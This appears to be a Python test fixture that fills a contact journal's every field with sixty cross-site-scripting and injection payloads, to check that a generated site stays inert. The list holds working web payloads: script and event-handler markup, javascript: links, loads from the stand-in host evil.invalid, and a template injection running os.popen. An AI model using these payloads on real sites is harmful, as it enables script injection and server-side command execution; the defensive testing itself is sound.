"""A journal in which every place that takes text says something hostile.

Sixty payloads, each of them in every place. A payload that gets through runs `alert`, or asks the host `evil.invalid`
for something; nothing else in a site does either. Each calls `alert` with its own number, so that a failure says which.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from pathlib import Path

TODAY = "2026-11-23"
HOST = "evil.invalid"
RUN = "alert(NUMBER)"

PAYLOADS = [
    # Markup that runs as soon as it is read.
    "<script>RUN</script>",
    "<ScRiPt>RUN</sCrIpT>",
    "<script src=//evil.invalid/NUMBER.js></script>",
    "<img src=x onerror=RUN>",
    '"><img src=x onerror=RUN>',
    "'><img src=x onerror=RUN>",
    "<svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
    "<body onload=RUN>",
    "<details open ontoggle=RUN>x</details>",
    "<input autofocus onfocus=RUN>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN></audio>",
    "<iframe srcdoc='&lt;script>parent.alert(NUMBER)&lt;/script>'></iframe>",
    "<iframe src=javascript:parent.alert(NUMBER)></iframe>",
    "<object data=javascript:RUN></object>",
    "<embed src=//evil.invalid/NUMBER>",
    "<style>@import '//evil.invalid/NUMBER.css';</style>",
    "<link rel=stylesheet href=//evil.invalid/NUMBER.css>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/NUMBER'>",
    "<base href=//evil.invalid/>",
    "<form action=//evil.invalid/NUMBER><button>send</button></form>",
    "<a href=//evil.invalid/NUMBER ping=//evil.invalid/NUMBER>x</a>",
    # Ways out of what a text may stand in.
    "</title><script>RUN</script>",
    "</textarea></noscript><script>RUN</script>",
    "--><script>RUN</script><!--",
    "]]><script>RUN</script>",
    "</div></article></main>\n\n<script>RUN</script>\n\n",
    '"\ntemplate: 404.html\ntitle: "<script>RUN</script>',
    "---\n\n<script>RUN</script>",
    '" onmouseover="RUN" autofocus onfocus="RUN" x="',
    "' style=background:url(//evil.invalid/NUMBER) x='",
    "`</code><script>RUN</script>`",
    "```\n</code></pre><script>RUN</script>\n```",
    "    <script>RUN</script>",
    "\u0002wzxhzdk:0\u0003<script>RUN</script>",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&#60;img src=x onerror=RUN&#62;",
    "\\<img src=x onerror=RUN\\>",
    "<<script>>RUN<</script>>",
    "<img src=x onerror\u00a0=RUN \u202e>",
    "\ud7ff<img/src='x'/onerror=RUN>\ufeff",
    # Links that run when they are followed.
    "[x](javascript:RUN)",
    "[x](JaVaScRiPt:RUN)",
    "[x](java&#115;cript:RUN)",
    "[x](\u0001javascript:RUN)",
    "[x](java\tscript:RUN)",
    "<javascript:RUN>",
    "[x][ref]\n\n[ref]: javascript:RUN",
    "[x](data:text/html,<script>RUN</script>)",
    "[x](vbscript:RUN)",
    'javascript:RUN//"onclick="RUN',
    # Pictures from elsewhere, and what engines and their extensions would make of a text.
    "![x](https://evil.invalid/NUMBER.png)",
    "![x](javascript:RUN)",
    "x {onmouseover=RUN autofocus onfocus=RUN}\n{: onfocus=RUN autofocus }",
    '--8<-- "mkdocs.yml"\n;--8<-- "https://evil.invalid/NUMBER"',
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}{% include 'main.html' %}",
    "[^1]\n\n[^1]: <script>RUN</script>\n*[HTML]: <img src=x onerror=RUN>",
    '!!! note "<script>RUN</script>"\n    ```mermaid\n    graph\n    ```\n    :smile: $$x$$ <script>RUN</script>',
]  # fmt: skip

PLACES = (
    "name", "nickname", "texts", "lists", "facts", "channels", "tags", "note", "meeting", "promise", "log", "goal",
    "title", "catalogue", "unknown key", "file name",
)  # fmt: skip
"""Where each payload stands. The title is one for the whole journal, and says them all."""
LISTS = (
    "fields", "circles", "tags", "interests", "needs", "skills", "anecdotes", "gifts", "avoid", "languages"
)  # fmt: skip


def payload(number: int) -> str:
    """The payload of that number, from 0; numbers go round."""
    number %= len(PAYLOADS)
    return PAYLOADS[number].replace("RUN", RUN).replace("NUMBER", str(number))


@dataclass(frozen=True)
class HostileJournal:
    """So many people, each with a meeting and a touch; each payload is in every place, with several people or few."""

    people: int

    def say(self, number: int, place: str) -> str:
        """What stands in a place with a person: another payload in each place, and all of them with all people."""
        share = len(PAYLOADS) // self.people
        return " ".join(payload((number + PLACES.index(place)) * share + one) for one in range(share))

    def write(self, folder: Path) -> None:
        for number in range(self.people):
            for path, text in {**self._person(number), **self._meeting(number)}.items():
                _write(folder / path, text)
        _write(folder / "contacts/log.md", "".join(map(self._touch, range(self.people))))
        for first in range(0, len(PAYLOADS), 10):
            _write(folder / f"contacts/goals/g{first}.md", _goal([payload(first + one) for one in range(10)]))
        every = " ".join(payload(number) for number in range(len(PAYLOADS)))
        title = _keys(today=TODAY, site={"title": every}, me={"name": every}, catalogue="own.yaml")
        _write(folder / "contacts/journal.yml", title)
        _write(folder / "contacts/own.yaml", json.dumps(_catalogue()))

    def _person(self, number: int) -> dict[str, str]:
        def say(place: str) -> str:
            return self.say(number, place)

        front = _keys(
            name=say("name"),
            nickname=say("nickname"),
            aliases=[say("nickname")],
            ring=15,
            stars=number % 3 + 1,
            met={"when": "2009", "where": say("texts")},
            facts={"partner": say("facts"), say("facts"): "2024"},
            channels={
                "phone": say("channels"),
                "mail": say("channels"),
                say("channels"): "https://example.org",
            },
            url=say("channels"),
            photo=say("channels"),
            birthday="1980-12-01",
            dates={say("facts"): "2015-12-06"},
            **{key: say("texts") for key in ("pronouns", "say", "place", "org", "title", "prefers", "form")},
            **{key: [say("lists"), say("tags")] for key in LISTS},
        )
        key, value = _quoted(say("unknown key")[:80]), _quoted(say("unknown key"))
        note = f"{say('note')}\n\n- {_one_line(say('note'))}\n"
        name = re.sub(r"[/\x00]", "\u2215", say("file name"))[:60]
        return {
            f"contacts/people/p{number:02}.md": f"---\n{front}{key}: {value}\nrhythm: {value}\n---\n{note}",
            f"contacts/people/{number}{name}.md": f"---\nname: {value}\n---\n",
        }

    def _meeting(self, number: int) -> dict[str, str]:
        text, promise = self.say(number, "meeting"), _one_line(self.say(number, "promise"))
        others = [f"p{(number + step) % self.people:02}" for step in range(2)]
        front = _keys(
            **{"with": others, "place": text, "activity": text, "topics": [text, promise], "channel": text}
        )
        day = f"2026-12-{number % 20 + 1:02}" if number % 6 == 0 else f"2026-10-{number % 28 + 1:02}"
        tasks = f"- [ ] {promise}\n- [ ] [[{others[0]}]]: {promise}\n- gave: {promise}\n"
        return {f"contacts/meetings/{day}-m{number:02}.md": f"---\n{front}---\n{text}\n\n{tasks}"}

    def _touch(self, number: int) -> str:
        text = _one_line(self.say(number, "log"))
        return f"- 2026-{number % 10 + 1:02}-20 call from [[p{number:02}]]: {text} #{text}; gave: {text}\n"


def _goal(texts: list[str]) -> str:
    front = _keys(name=" ".join(texts), kind="help_via", fields=texts, places=texts)
    return f"---\n{front}---\n" + "\n\n".join(texts) + "\n"


def _catalogue() -> dict[str, object]:
    def wordings(kind: str) -> list[dict[str, str]]:
        return [
            {"id": f"{kind}{number}", "depth": "1", "cost": "1", "de": payload(number), "en": payload(number)}
            for number in range(len(PAYLOADS))
        ]

    return {
        "questions": {payload(0): wordings("q")},
        **{kind: wordings(kind) for kind in ("follow_ups", "icebreakers", "offers", "activities")},
    }


def _write(file: Path, text: str) -> None:
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text, "utf-8")


def _keys(**values: object) -> str:
    return "".join(f"{key}: {_quoted(value)}\n" for key, value in values.items())


def _quoted(value: object) -> str:
    """JSON is YAML too, and says each payload whole."""
    return json.dumps(value)


def _one_line(text: str) -> str:
    return " ".join(re.sub(r"[\x00-\x1f]", " ", text).split())
